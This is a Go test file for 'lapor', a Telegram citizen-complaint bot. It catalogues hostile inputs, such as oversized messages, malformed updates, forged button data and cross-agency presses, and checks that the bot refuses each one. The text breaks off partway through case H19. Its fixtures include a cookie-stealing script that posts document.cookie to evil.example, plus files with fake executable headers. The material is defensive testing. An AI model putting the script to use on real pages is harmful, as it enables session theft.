package main

// The hostile-input catalogue: what lapor does with input meant to break
// it, one row per case, each with what must happen. docs/RELIABILITY.md
// shows the same table; TestHostileCatalogueDocumented keeps the two in
// step. The cases of one channel share one running service (a service per
// case would cost a second each); each case uses chats of its own, so no
// case depends on another's state except the fixtures a group states.
//
// A case that shows a bug keeps its row and its assertions of the right
// behaviour, and is skipped with "BUG: …" until the product is fixed.
// LAPOR_HOSTILE_BUGS=1 runs them anyway, to reproduce:
//
//	LAPOR_HOSTILE_BUGS=1 go test -run 'TestHostileTelegram/H06' ./cmd/lapor

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/lapor-id/lapor/bot/telegram/telegramtest"
	"github.com/lapor-id/lapor/flows/media"
	"github.com/lapor-id/lapor/store"
)

// hostileCase is one row of the catalogue. E is what the channel group's
// cases share: the running service and its fakes.
type hostileCase[E any] struct {
	id      string // H01…
	channel string // telegram, whatsapp, web, all
	name    string
	input   string
	expect  string
	bug     string // a bug the case shows: skipped with this description
	run     func(t *testing.T, e E)
}

// hostileRow is a case as the documentation shows it.
type hostileRow struct{ id, channel, name, input, expect, bug string }

func hostileRows[E any](cases []hostileCase[E]) []hostileRow {
	rows := make([]hostileRow, len(cases))
	for i, c := range cases {
		rows[i] = hostileRow{c.id, c.channel, c.name, c.input, c.expect, c.bug}
	}
	return rows
}

// hostileCatalogues are the groups' tables (WhatsApp's registers itself
// when the binary has WhatsApp).
var hostileCatalogues = []func() []hostileRow{
	func() []hostileRow { return hostileRows(telegramHostileCases()) },
	func() []hostileRow { return hostileRows(webHostileCases()) },
}

// runHostile runs a group's cases in order as subtests on one service;
// after checks the service is still healthy after each.
func runHostile[E any](t *testing.T, e E, after func(t *testing.T), cases []hostileCase[E]) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.id+" "+c.name, func(t *testing.T) {
			if c.bug != "" && os.Getenv("LAPOR_HOSTILE_BUGS") == "" {
				t.Skip("BUG: " + c.bug)
			}
			c.run(t, e)
			after(t)
		})
	}
}

// hwait retries cond for up to 30 s (the machine is shared; a card may
// still be on its way).
func hwait(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		if cond() {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("waited 30 s: %s", what)
		}
	}
}

// hmust holds a result until of(t) checks its error: hmust(f()).of(t).
func hmust[T any](v T, err error) hresult[T] { return hresult[T]{v, err} }

type hresult[T any] struct {
	v   T
	err error
}

func (r hresult[T]) of(t *testing.T) T {
	t.Helper()
	if r.err != nil {
		t.Fatal(r.err)
	}
	return r.v
}

// tsay, tpress, tpressPrefix and texpect are the citizen's helpers that
// end the test on a missing answer.
func tsay(t *testing.T, c *citizen, text, want string) telegramtest.Sent {
	t.Helper()
	return hmust(c.say(text, want)).of(t)
}

func tpress(t *testing.T, c *citizen, data, want string) telegramtest.Sent {
	t.Helper()
	return hmust(c.press(data, want)).of(t)
}

func tpressPrefix(t *testing.T, c *citizen, prefix, suffix, want string) telegramtest.Sent {
	t.Helper()
	return hmust(c.pressPrefix(prefix, suffix, want)).of(t)
}

func texpect(t *testing.T, c *citizen, want string) telegramtest.Sent {
	t.Helper()
	return hmust(c.expect(want)).of(t)
}

// hready checks the process still serves: /readyz answers 200.
func hready(t *testing.T, addr string) {
	t.Helper()
	resp, err := http.Get("http://" + addr + "/readyz")
	if err != nil {
		t.Fatalf("/readyz: %v", err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("/readyz: %d %s", resp.StatusCode, body)
	}
}

// hreadyOK reports whether /readyz answers 200.
func hreadyOK(addr string) bool {
	resp, err := http.Get("http://" + addr + "/readyz")
	if err != nil {
		return false
	}
	resp.Body.Close()
	return resp.StatusCode == 200
}

// hquiet waits until every stored message is handled and every reply
// written is delivered: after it, a reply that did not come will not come.
func hquiet(t *testing.T, db *store.DB) {
	t.Helper()
	hwait(t, "inbox and outbox drained", func() bool {
		tl, err := db.Tally(context.Background())
		return err == nil && tl.InboxPending == 0 && tl.OutboxPending == 0
	})
}

// haudited waits for an audit entry matching ok.
func haudited(t *testing.T, db *store.DB, what string, ok func(store.AuditEntry) bool) store.AuditEntry {
	t.Helper()
	var found store.AuditEntry
	hwait(t, "audit log entry: "+what, func() bool {
		log, err := db.AuditLog(context.Background(), 1000)
		if err != nil {
			return false
		}
		for _, e := range log {
			if ok(e) {
				found = e
				return true
			}
		}
		return false
	})
	return found
}

// houtcome waits until a stored update is handled and returns its outcome.
func houtcome(t *testing.T, db *store.DB, channel, externalID string) string {
	t.Helper()
	var out string
	hwait(t, "outcome of "+channel+" "+externalID, func() bool {
		o, err := db.InboundOutcome(context.Background(), channel, externalID)
		out = o
		return err == nil && o != ""
	})
	return out
}

func hreport(t *testing.T, db *store.DB, id string) store.Report {
	t.Helper()
	var r store.Report
	err := db.InTx(context.Background(), func(tx *store.Tx) (err error) {
		r, err = tx.ReportByTrackingID(context.Background(), id)
		return err
	})
	if err != nil {
		t.Fatalf("report %s: %v", id, err)
	}
	return r
}

func hreportCount(t *testing.T, db *store.DB) int {
	t.Helper()
	tl, err := db.Tally(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return tl.Reports
}

// hdraft is what a chat's conversation holds.
type hdraft struct {
	Step        string
	Description []string `json:"description"`
	Attachments []struct {
		ID   int64  `json:"id"`
		Name string `json:"name"`
	} `json:"attachments"`
}

func hconversation(t *testing.T, db *store.DB, channel, chat string) hdraft {
	t.Helper()
	var d hdraft
	err := db.InTx(context.Background(), func(tx *store.Tx) error {
		conv, err := tx.LoadConversation(context.Background(), channel, chat)
		if err != nil {
			return err
		}
		d.Step = conv.Step
		if len(conv.Draft) > 0 {
			return json.Unmarshal(conv.Draft, &d)
		}
		return nil
	})
	if err != nil {
		t.Fatalf("conversation %s/%s: %v", channel, chat, err)
	}
	return d
}

// runeText is n characters of readable Indonesian, ending in a letter.
func runeText(n int) string {
	base := []rune("Jalan desa berlubang dan saluran air tersumbat sejak bulan lalu. ")
	out := make([]rune, n)
	for i := range out {
		out[i] = base[i%len(base)]
	}
	out[n-1] = 'x'
	return string(out)
}

// ---------------------------------------------------------------- Telegram

// tgHostile is the Telegram group's service: every desk registered the way
// a regency does it (like newChain), a flood limit of 20 messages a
// minute, and two fixtures filed at start: victim, a confidential report
// in stage submitted, and atPupr, a report at the pupr agency. Cases that
// touch them must leave them as they were, and check it.
type tgHostile struct {
	fake                         *telegramtest.Server
	db                           *store.DB
	env                          map[string]string
	logs                         *syncBuffer
	stop                         func()
	super, regency, pupr, dinkes *citizen
	superPrivate                 *citizen
	victim, atPupr               string
	victimOwner                  *citizen

	mu   sync.Mutex
	next int64
}

const (
	hFloodLimit   = 20
	hStrangerUser = 7777 // a person who is no officer
)

func startHostileTelegram(t *testing.T) *tgHostile {
	t.Helper()
	fake := fastTelegram(t)
	dbURL := pg.NewDatabase(t)
	env := serviceEnv(t, fake, dbURL)
	env["LAPOR_FLOOD_PER_MINUTE"] = fmt.Sprint(hFloodLimit)
	env["LAPOR_TELEGRAM_GROUP_PER_MINUTE"] = "600" // the fake's limit: desks get many cards here
	var out, errOut bytes.Buffer
	if code := Run(context.Background(), []string{"admin", "add", "--telegram-user", "9001", "--role", "super_admin", "--name", "Sari"},
		func(k string) string { return env[k] }, &out, &errOut); code != 0 {
		t.Fatalf("admin add: %d %s", code, errOut.String())
	}
	logs, stop := startInProcess(t, env)
	db := hmust(store.Open(context.Background(), dbURL, nil)).of(t)
	t.Cleanup(db.Close)
	h := &tgHostile{fake: fake, db: db, env: env, logs: logs, stop: stop, next: 70000}
	officer := func(group, user int64) *citizen {
		p := newCitizen(fake, group)
		p.user, p.wait = user, 30*time.Second
		return p
	}
	h.superPrivate = officer(9001, 9001)
	h.super = officer(superGroup, 9001)
	h.regency = officer(regencyGroup, 9002)
	h.pupr = officer(puprGroup, 9003)
	h.dinkes = officer(dinkesGroup, 9004)
	tsay(t, h.superPrivate, "/petugas tambah 9002 regency_admin Budi", "Budi")
	tsay(t, h.superPrivate, "/petugas tambah 9003 liaison_officer pupr Rina", "9003")
	tsay(t, h.superPrivate, "/petugas tambah 9004 liaison_officer dinkes Dewi", "9004")
	for _, d := range []struct {
		p    *citizen
		desk string
	}{{h.super, "super_admin"}, {h.regency, "regency_admin"}, {h.pupr, "agency pupr"}, {h.dinkes, "agency dinkes"}} {
		msg := tsay(t, h.superPrivate, "/kode_grup "+d.desk, "Kode pendaftaran")
		m := codeRE.FindStringSubmatch(msg.Text)
		if m == nil {
			t.Fatalf("no code in %q", msg.Text)
		}
		tsay(t, d.p, "/daftar_grup "+m[1], "terdaftar sebagai grup petugas")
	}
	h.victimOwner = h.citizen()
	h.victim = h.file(t, h.victimOwner, "Fixture: lampu penerangan jalan di dusun Krajan mati sejak dua bulan.", nil)
	texpect(t, h.super, h.victim)
	h.atPupr = h.file(t, h.citizen(), "Fixture: jembatan kayu di desa Sidomukti lapuk dan berbahaya bagi anak sekolah.", nil)
	tsay(t, h.super, "/verifikasi "+h.atPupr, "✅ "+h.atPupr)
	tsay(t, h.regency, "/disposisi "+h.atPupr+" pupr", "✅ "+h.atPupr)
	texpect(t, h.pupr, "Balas pesan laporan ini")
	return h
}

// citizen is a person in a private chat no other case uses.
func (h *tgHostile) citizen() *citizen {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.next += 10
	c := newCitizen(h.fake, h.next)
	c.wait = 30 * time.Second
	return c
}

func (h *tgHostile) chatID(c *citizen) string { return fmt.Sprint(c.chat) }

// startDraft takes a new citizen to the description step.
func (h *tgHostile) startDraft(t *testing.T, c *citizen) {
	t.Helper()
	tsay(t, c, "/start", "Selamat datang")
	tpress(t, c, "menu:new", "Jenis laporan")
	tpress(t, c, "type:pengaduan", "Uraian")
}

// file runs the whole intake with description; evidence, when not nil,
// runs at the evidence step. It returns the tracking number.
func (h *tgHostile) file(t *testing.T, c *citizen, description string, evidence func()) string {
	t.Helper()
	h.startDraft(t, c)
	tsay(t, c, description, "Dicatat")
	return h.finish(t, c, evidence)
}

// finish runs the intake from the end of the description to the tracking
// number.
func (h *tgHostile) finish(t *testing.T, c *citizen, evidence func()) string {
	t.Helper()
	h.toSummary(t, c, evidence)
	done := tpress(t, c, "sum:send", "Nomor laporan: ")
	id := trackingRE.FindString(done.Text)
	if id == "" {
		t.Fatalf("no tracking number in %q", done.Text)
	}
	return id
}

// toSummary runs the intake from the end of the description to the
// summary.
func (h *tgHostile) toSummary(t *testing.T, c *citizen, evidence func()) telegramtest.Sent {
	t.Helper()
	tpress(t, c, "what:next", "Kapan")
	tpress(t, c, "when:today", "Di mana")
	tsay(t, c, "Jl. Raya Plaosan No. 3", "pilih kecamatan lain")
	tpressPrefix(t, c, "kec:", "", "Bukti")
	if evidence != nil {
		evidence()
	}
	tpress(t, c, "ev:done", "Sembunyikan identitas")
	tpress(t, c, "anon:no", "nama Anda")
	tsay(t, c, "Warga Plaosan", "telepon atau alamat e-mail")
	tpress(t, c, "contact:skip", "Rahasiakan")
	return tpress(t, c, "conf:yes", "Ringkasan")
}

// lastBotMessage is the newest message the bot sent to chat (a message a
// forged button press can hang on).
func (h *tgHostile) lastBotMessage(t *testing.T, chat int64) int {
	t.Helper()
	sent := h.fake.Sent(chat)
	if len(sent) == 0 {
		t.Fatalf("the bot sent nothing to chat %d", chat)
	}
	return sent[len(sent)-1].MessageID
}

// forge presses a button with data the bot never offered, on the newest
// message of p's chat.
func (h *tgHostile) forge(t *testing.T, p *citizen, data, want string) telegramtest.Sent {
	t.Helper()
	h.fake.PressButton(p.chat, p.user, h.lastBotMessage(t, p.chat), data)
	return texpect(t, p, want)
}

// unchanged checks a fixture report is where it was.
func (h *tgHostile) unchanged(t *testing.T, id, stage string, version int) {
	t.Helper()
	r := hreport(t, h.db, id)
	if r.Stage != stage || version != 0 && r.Version != version {
		t.Fatalf("report %s changed: stage %s version %d, want %s %d", id, r.Stage, r.Version, stage, version)
	}
}

// silentIn checks the bot sent nothing to chat (after everything pending
// was handled and delivered).
func (h *tgHostile) silentIn(t *testing.T, chat int64, before int) {
	t.Helper()
	hquiet(t, h.db)
	if sent := h.fake.Sent(chat); len(sent) != before {
		t.Fatalf("the bot spoke in chat %d: %+v", chat, sent[before:])
	}
}

// documentsTo counts files the bot sent to chat.
func (h *tgHostile) documentsTo(chat int64) int {
	n := 0
	for _, s := range h.fake.Sent(chat) {
		if len(s.FileData) > 0 {
			n++
		}
	}
	return n
}

// payloadErrors are Bot API refusals of what the bot sent: each means a
// reply that never reached its chat.
var payloadErrors = []string{"message is too long", "message caption is too long", "message text is empty",
	"text must be encoded in UTF-8", "BUTTON_DATA_INVALID", "can't parse"}

func (h *tgHostile) healthy(t *testing.T) {
	t.Helper()
	hready(t, h.env["LAPOR_HTTP_ADDR"])
	for desc, n := range h.fake.Stats().Errors {
		for _, bad := range payloadErrors {
			if strings.Contains(desc, bad) {
				t.Errorf("the Bot API refused %d of the bot's messages: %s", n, desc)
			}
		}
	}
	if strings.Contains(h.logs.String(), "panic") {
		t.Errorf("a panic was logged:\n%s", h.logs)
	}
}

// rawMessage is a message update as Telegram would send it, from a person
// in their private chat, with text as a raw JSON string body (escapes kept).
func rawMessage(chat int64, messageID int, jsonText string) []byte {
	return []byte(fmt.Sprintf(`{"message":{"message_id":%d,"date":%d,"chat":{"id":%d,"type":"private","first_name":"Warga"},`+
		`"from":{"id":%d,"is_bot":false,"first_name":"Warga"},"text":"%s"}}`, messageID, time.Now().Unix(), chat, chat, jsonText))
}

// jpegBytes, zipBytes, … are files that lie about what they are.
var (
	elfBytes  = append([]byte("\x7fELF\x02\x01\x01\x00"), bytes.Repeat([]byte{0}, 64)...)
	exeBytes  = append([]byte("MZ\x90\x00\x03\x00\x00\x00"), bytes.Repeat([]byte{0}, 64)...)
	zipBytes  = append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), []byte("payload.exe")...)
	htmlBytes = []byte("<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>")
)

var homoglyphs = strings.NewReplacer("A", "А", "C", "С", "E", "Е", "H", "Н", "K", "К", "M", "М", "P", "Р", "T", "Т", "X", "Х", "Y", "У")

func TestHostileTelegram(t *testing.T) {
	t.Parallel()
	h := startHostileTelegram(t)
	runHostile(t, h, h.healthy, telegramHostileCases())
}

// telegramHostileCases are the Telegram group's cases: the input cases
// and the privacy cases, then H49, which restarts the service, last.
func telegramHostileCases() []hostileCase[*tgHostile] {
	cases := telegramInputCases()
	last := cases[len(cases)-1]
	if last.id != "H49" {
		panic("H49 must be the Telegram group's last case: it restarts the service")
	}
	return append(append(cases[:len(cases)-1:len(cases)-1], privacyHostileCases()...), last)
}

func telegramInputCases() []hostileCase[*tgHostile] {
	type E = *tgHostile
	return []hostileCase[E]{
		// Oversized payloads.
		{id: "H01", channel: "telegram", name: "10000-character description",
			input:  "one text of 10,000 characters as the description, then the whole intake",
			expect: "\"Dicatat (10000 karakter)\"; the report keeps all 10,000; the super admin's card shows the first 2,500 (one message within Telegram's 4096); the Bot API refuses nothing",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				desc := runeText(10000)
				h.startDraft(t, c)
				tsay(t, c, desc, "Dicatat (10000 karakter)")
				id := h.finish(t, c, nil)
				if r := hreport(t, h.db, id); r.Description != desc {
					t.Fatalf("stored description has %d characters, want 10000", utf8.RuneCountInString(r.Description))
				}
				card := texpect(t, h.super, id)
				if !strings.Contains(card.Text, string([]rune(desc)[:2400])) || strings.Contains(card.Text, desc) || utf16Units(card.Text) > 4096 {
					t.Fatalf("the card (%d UTF-16 units) does not show the description's start, cut", utf16Units(card.Text))
				}
			}},
		{id: "H02", channel: "telegram", name: "10000-character answer relayed to the citizen",
			input:  "a report walked to pupr, whose officer answers with one text of 10,000 characters; the regency admin approves",
			expect: "the citizen receives the answer in parts of at most 4096 UTF-16 units, Terima/Tolak under the last; the Bot API refuses nothing",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				id := h.file(t, c, "Lampu jalan di depan SD Negeri 2 mati sejak tiga minggu, jalan gelap.", nil)
				tsay(t, h.super, "/verifikasi "+id, "✅ "+id)
				tsay(t, h.regency, "/disposisi "+id+" pupr", "✅ "+id)
				tsay(t, h.pupr, "/tanggapi "+id, "tulis tanggapan")
				hmust(h.pupr.reply("tulis tanggapan", runeText(10000), "dicatat (10000 karakter")).of(t) // privacy mode: a reply
				tsay(t, h.pupr, "/tanggapi "+id+" selesai", "✅ "+id)
				tsay(t, h.regency, "/setujui "+id, "✅ "+id)
				var parts int
				hwait(t, "the answer with its buttons in the citizen's chat", func() bool {
					parts = 0
					for _, s := range h.fake.Sent(c.chat) {
						if strings.Contains(s.Text, "Jalan desa berlubang") {
							parts++
						}
						for _, row := range s.Keyboard {
							for _, b := range row {
								if strings.HasPrefix(b.Data, "c|accept|"+id+"|") {
									return true
								}
							}
						}
					}
					return false
				})
				if parts < 3 {
					t.Errorf("the 10,000-character answer came in %d parts, want at least 3", parts)
				}
				for _, s := range h.fake.AllSent() {
					if n := utf16Units(s.Text); n > 4096 {
						t.Errorf("a message of %d UTF-16 units to chat %d", n, s.ChatID)
					}
				}
			}},
		{id: "H03", channel: "telegram", name: "description over the 20000-character limit",
			input:  "one text of 25,000 characters at the description step",
			expect: "\"Uraian sudah mencapai batas 20000 karakter\"; nothing of it is kept (Lanjut then says 0 characters)",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				tsay(t, c, runeText(25000), "Uraian sudah mencapai batas 20000 karakter")
				tpress(t, c, "what:next", "masih terlalu singkat (0 karakter")
			}},
		{id: "H04", channel: "telegram", name: "photo caption over 1024 characters",
			input:  "a photo with a 3,000-character caption at the description step",
			expect: "\"Bukti ke-1 diterima\"; the caption becomes the description (the next text: \"Dicatat (3017 karakter)\")",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				h.fake.SendPhoto(c.chat, c.user, []byte("\xff\xd8\xff foto"), runeText(3000))
				texpect(t, c, "Bukti ke-1 diterima")
				tsay(t, c, "Foto terlampir.", "Dicatat (3017 karakter)")
			}},
		{id: "H05", channel: "telegram", name: "50 MB document announced by Telegram",
			input:  "SendLargeDocument rekaman.mp4 of 50 MB at the description step",
			expect: "\"terlalu besar (50,0 MB). Batasnya 20,0 MB\"; nothing downloaded or stored",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				h.startDraft(t, c)
				h.fake.SendLargeDocument(c.chat, c.user, "rekaman.mp4", "video/mp4", 50<<20)
				texpect(t, c, "terlalu besar (50,0 MB). Batasnya 20,0 MB")
				if d := hconversation(t, h.db, "telegram", h.chatID(c)); len(d.Attachments) != 0 {
					t.Fatalf("the oversized file was stored: %+v", d.Attachments)
				}
			}},

		// Malformed updates.
		{id: "H06", channel: "telegram", name: "update whose fields have the wrong types",
			input:  `AddRawUpdate {"message":{"message_id":"x","date":"kemarin","chat":{"id":"abc"},"text":42}}, then another citizen's /start`,
			expect: "the bad update is skipped (acknowledged, recorded nowhere); every other chat is served as before",
			run: func(t *testing.T, h E) {
				h.fake.AddRawUpdate([]byte(`{"message":{"message_id":"x","date":"kemarin","chat":{"id":"abc"},"text":42}}`))
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				hwait(t, "the bad update acknowledged", func() bool { return h.fake.Pending() == 0 })
			}},
		{id: "H07", channel: "telegram", name: "update with no content",
			input:  "AddRawUpdate {} (only an update_id)",
			expect: "acknowledged, nothing stored, nothing sent; the next citizen is answered",
			run: func(t *testing.T, h E) {
				id := h.fake.AddRawUpdate([]byte(`{}`))
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				hwait(t, "the empty update acknowledged", func() bool { return h.fake.Pending() == 0 })
				if _, err := h.db.InboundOutcome(context.Background(), "telegram", fmt.Sprint(id)); !errors.Is(err, store.ErrNotFound) {
					t.Fatalf("the empty update was stored: %v", err)
				}
			}},
		{id: "H08", channel: "telegram", name: "edited message",
			input:  "a text, then an edit of it to \"/verifikasi MGT-XXXXXX\"",
			expect: "\"Perubahan pada pesan yang sudah terkirim tidak kami proses\"; recorded as \"refused: edited\"",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				_, msg := h.fake.SendText(c.chat, c.user, "halo")
				texpect(t, c, "Ceritakan langsung apa yang ingin Anda laporkan")
				upd := h.fake.EditText(c.chat, c.user, msg, "/verifikasi "+h.victim)
				texpect(t, c, "Perubahan pada pesan yang sudah terkirim tidak kami proses")
				if got := houtcome(t, h.db, "telegram", fmt.Sprint(upd)); got != "refused: edited" {
					t.Fatalf("outcome %q", got)
				}
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H09", channel: "telegram", name: "channel post",
			input:  "AddRawUpdate channel_post from a channel, text \"/verifikasi <victim>\"",
			expect: "acknowledged, not stored, nothing sent to the channel; the victim report is unchanged",
			run: func(t *testing.T, h E) {
				id := h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"channel_post":{"message_id":5,"date":%d,`+
					`"chat":{"id":-1009999,"type":"channel","title":"Saluran"},"text":"/verifikasi %s",`+
					`"entities":[{"type":"bot_command","offset":0,"length":11}]}}`, time.Now().Unix(), h.victim)))
				hwait(t, "the channel post acknowledged", func() bool { return h.fake.Pending() == 0 })
				if _, err := h.db.InboundOutcome(context.Background(), "telegram", fmt.Sprint(id)); !errors.Is(err, store.ErrNotFound) {
					t.Fatalf("the channel post was stored: %v", err)
				}
				h.silentIn(t, -1009999, 0)
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H10", channel: "telegram", name: "chat_join_request",
			input:  "AddRawUpdate chat_join_request for a group",
			expect: "acknowledged, not stored, nothing sent",
			run: func(t *testing.T, h E) {
				id := h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"chat_join_request":{"chat":{"id":-1008888,"type":"supergroup","title":"Grup"},`+
					`"from":{"id":%d,"is_bot":false,"first_name":"Asing"},"user_chat_id":%d,"date":%d}}`, hStrangerUser, hStrangerUser, time.Now().Unix())))
				hwait(t, "the join request acknowledged", func() bool { return h.fake.Pending() == 0 })
				if _, err := h.db.InboundOutcome(context.Background(), "telegram", fmt.Sprint(id)); !errors.Is(err, store.ErrNotFound) {
					t.Fatalf("the join request was stored: %v", err)
				}
				h.silentIn(t, -1008888, 0)
			}},
		{id: "H11", channel: "telegram", name: "button press on an inline message (no message in the callback)",
			input:  "AddRawUpdate callback_query with inline_message_id and data w|verify|<victim>|1|, from the super admin",
			expect: "acknowledged, not stored; the victim report is unchanged",
			run: func(t *testing.T, h E) {
				id := h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"callback_query":{"id":"77","from":{"id":9001,"is_bot":false,"first_name":"Sari"},`+
					`"inline_message_id":"AAAA","chat_instance":"1","data":"w|verify|%s|1|"}}`, h.victim)))
				hwait(t, "the inline callback acknowledged", func() bool { return h.fake.Pending() == 0 })
				if _, err := h.db.InboundOutcome(context.Background(), "telegram", fmt.Sprint(id)); !errors.Is(err, store.ErrNotFound) {
					t.Fatalf("the inline callback was stored: %v", err)
				}
				hquiet(t, h.db)
				h.unchanged(t, h.victim, "submitted", 0)
			}},
		{id: "H12", channel: "telegram", name: "message that carries nothing",
			input:  "AddRawUpdate message with no text, media or service field in a private chat",
			expect: "\"pesan kosong tidak dapat kami proses\"; recorded as \"refused: empty\"",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				id := h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"message":{"message_id":900011,"date":%d,"chat":{"id":%d,"type":"private"},`+
					`"from":{"id":%d,"is_bot":false,"first_name":"Warga"}}}`, time.Now().Unix(), c.chat, c.chat)))
				texpect(t, c, "pesan kosong tidak dapat kami proses")
				if got := houtcome(t, h.db, "telegram", fmt.Sprint(id)); got != "refused: empty" {
					t.Fatalf("outcome %q", got)
				}
			}},

		// Forged callback data.
		{id: "H13", channel: "telegram", name: "garbage callback data in a private chat",
			input:  "a press with data \"💣💣|;--|%s|\\u202e\" on the welcome message",
			expect: "\"Tombol itu sudah tidak berlaku\" and the menu again; the chat stays idle",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				h.forge(t, c, "💣💣|;--|%s|\u202e", "Tombol itu sudah tidak berlaku")
				texpect(t, c, "Selamat datang")
				if d := hconversation(t, h.db, "telegram", h.chatID(c)); d.Step != "idle" {
					t.Fatalf("step %q after a garbage button", d.Step)
				}
			}},
		{id: "H14", channel: "telegram", name: "desk button pressed by a citizen in a private chat",
			input:  "a citizen presses w|verify|<victim>|1| (data never offered to them)",
			expect: "\"Tombol itu sudah tidak berlaku\"; the victim report stays submitted",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				v := hreport(t, h.db, h.victim).Version
				h.forge(t, c, "w|verify|"+h.victim+"|"+fmt.Sprint(v)+"|", "Tombol itu sudah tidak berlaku")
				hquiet(t, h.db)
				h.unchanged(t, h.victim, "submitted", v)
			}},
		{id: "H15", channel: "telegram", name: "stale version on a desk card",
			input:  "the super admin presses w|verify|<victim>|<version+7>| in the super admin desk",
			expect: "\"Laporan <victim> sudah …\" (who acted last); audited as a stale button; the report stays submitted",
			run: func(t *testing.T, h E) {
				v := hreport(t, h.db, h.victim).Version
				h.forge(t, h.super, fmt.Sprintf("w|verify|%s|%d|", h.victim, v+7), "Laporan "+h.victim+" sudah")
				r := hreport(t, h.db, h.victim)
				haudited(t, h.db, "stale verify", func(e store.AuditEntry) bool {
					return e.Action == "verify" && !e.Allowed && e.ReportID == r.ID && e.Detail == "stale button"
				})
				h.unchanged(t, h.victim, "submitted", v)
			}},
		{id: "H16", channel: "telegram", name: "citizen button naming another citizen's report",
			input:  "a citizen presses c|accept|<victim>|1 and rate|<victim>|5",
			expect: "\"Laporan <victim> tidak ditemukan\" and \"Tombol itu sudah tidak berlaku\"; the victim report unchanged, unrated",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				v := hreport(t, h.db, h.victim).Version
				h.forge(t, c, fmt.Sprintf("c|accept|%s|%d", h.victim, v), "Laporan "+h.victim+" tidak ditemukan")
				h.forge(t, c, "rate|"+h.victim+"|5", "Tombol itu sudah tidak berlaku")
				hquiet(t, h.db)
				h.unchanged(t, h.victim, "submitted", v)
				if r := hreport(t, h.db, h.victim); r.Rating != 0 {
					t.Fatalf("a stranger rated the report: %d", r.Rating)
				}
			}},
		{id: "H17", channel: "telegram", name: "agency A pressing agency B's card buttons",
			input:  "the dinkes officer presses w|answer|<atPupr>|v| and p|not_ours|<atPupr>|v in the dinkes desk, then in the pupr desk",
			expect: "\"tidak berwenang\" each time; each audited as not allowed; the report stays at pupr",
			run: func(t *testing.T, h E) {
				r := hreport(t, h.db, h.atPupr)
				h.forge(t, h.dinkes, fmt.Sprintf("w|answer|%s|%d|", h.atPupr, r.Version), "tidak berwenang")
				h.forge(t, h.dinkes, fmt.Sprintf("p|not_ours|%s|%d", h.atPupr, r.Version), "tidak berwenang")
				intruder := newCitizen(h.fake, puprGroup)
				intruder.user, intruder.wait, intruder.seen = 9004, 30*time.Second, len(h.fake.Sent(puprGroup))
				h.forge(t, intruder, fmt.Sprintf("w|answer|%s|%d|", h.atPupr, r.Version), "tidak berwenang")
				for _, where := range []string{fmt.Sprint(dinkesGroup), fmt.Sprint(puprGroup)} {
					haudited(t, h.db, "refusal in "+where, func(e store.AuditEntry) bool {
						return e.ChatID == where && e.UserID == "9004" && !e.Allowed && e.ReportID == r.ID
					})
				}
				if got := hreport(t, h.db, h.atPupr); got.Stage != "at_agency" || got.AgencyCode != "pupr" || got.Version != r.Version {
					t.Fatalf("report moved: %s %s v%d", got.Stage, got.AgencyCode, got.Version)
				}
			}},
		{id: "H18", channel: "telegram", name: "callback data over 64 bytes in a desk",
			input:  "the super admin presses a 180-byte button (\"w|verify|\" × 20)",
			expect: "\"Tombol itu sudah tidak berlaku\"; audited as an unknown button with the data cut to 64 characters",
			run: func(t *testing.T, h E) {
				data := strings.Repeat("w|verify|", 20)
				h.forge(t, h.super, data, "Tombol itu sudah tidak berlaku")
				e := haudited(t, h.db, "unknown button", func(e store.AuditEntry) bool {
					return e.Action == "button" && !e.Allowed && strings.HasPrefix(e.Detail, "unknown button w|verify|")
				})
				if n := utf8.RuneCountInString(strings.TrimPrefix(e.Detail, "unknown button ")); n > 65 {
					t.Fatalf("the audit keeps %d characters of forged data", n)
				}
				h.unchanged(t, h.victim, "submitted", 0)
			}},

		{id: "H19", channel: "telegram", name: "reply quoting another citizen's report",
			input:  "a citizen replies to a message (their own) that names the victim report, as if answering its Tunda question",
			expect: "an ordinary first message (\"Apakah Anda ingin menyampaikan laporan baru dengan isi berikut?\"); the victim report unchanged",
			run: func(t *testing.T, h E) {
				c := h.citizen()
				tsay(t, c, "/start", "Selamat datang")
				h.fake.AddRawUpdate([]byte(fmt.Sprintf(`{"message":{"message_id":900017,"date":%d,"chat":{"id":%d,"type":"private"},`+
					`"from":{"id":%d,"is_bot":false,"first_name":"Warga"},"text":"Rumah saya nomor 12, dekat masjid.",`+
					`"reply_to_message":{"message_id":1,"date":%d,"chat":{"id":%d,"type":"private"},"text":"Admin memerlukan keterangan tambahan untuk laporan %s"}}}`,
					time.Now().Unix(), c.chat, c.chat, time.Now().Unix(), c.chat, h.victim)))
